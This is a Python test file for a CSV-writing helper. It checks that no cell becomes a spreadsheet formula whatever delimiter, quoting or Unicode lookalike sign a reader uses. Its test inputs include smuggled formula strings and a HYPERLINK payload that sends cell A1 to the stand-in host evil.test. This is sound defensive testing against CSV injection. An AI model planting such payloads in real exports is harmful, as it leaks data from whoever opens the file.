"""A cell is no formula, wherever the program that opens the file cuts the line."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from discreet.foundation.desk.csv_cells import as_cell, csv_writer

pytestmark = pytest.mark.promise(17)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def formulas(text: str) -> list[str]:
    """Return what begins as a formula in a file that holds the text, whichever mark cells are cut at."""
    file = io.StringIO(newline="")
    csv_writer(file).writerow(["1", as_cell(text), "e"])
    return [
        cell
        for mark in ",;\t|"
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)
        for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=mark, quoting=quoting)
        for cell in row
        if cell.lstrip(' "\t\r\n\xa0\u200b\ufeff').startswith(SIGNS)
    ]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "ok;=1+1;",
        "ok\t=1+1\tz",
        "line\n=1+1;",
        "a\r=1+1;",
        " =1+1",
        "＝1+1",
        "ok; ＋1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\xa0=1+1",
        '"=1+1',
        'ok;"=1+1";',
        "x|=1+1",
        "x, -1",
        '1;=HYPERLINK("http://evil.test/?"&A1);2',
    ],
)
def test_no_cell_is_a_formula_for_any_reader(text: str) -> None:
    assert formulas(text) == []


@given(st.text(alphabet="=+-@＝;,|\t\r\n \"'a1\u200b", max_size=12))
def test_no_text_hides_a_formula(text: str) -> None:
    assert formulas(text) == []


@pytest.mark.parametrize("text", ["a = b", "a-b", "ann@example.com", "2 + 2", "Müller; Söhne", "1,5", ""])
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert as_cell(text) == text


def test_a_cell_comes_back_as_it_was_written() -> None:
    file = io.StringIO(newline="")
    csv_writer(file).writerow(["a;b", 'say "x"', "two\nlines"])
    assert list(csv.reader(io.StringIO(file.getvalue(), newline=""))) == [["a;b", 'say "x"', "two\nlines"]]
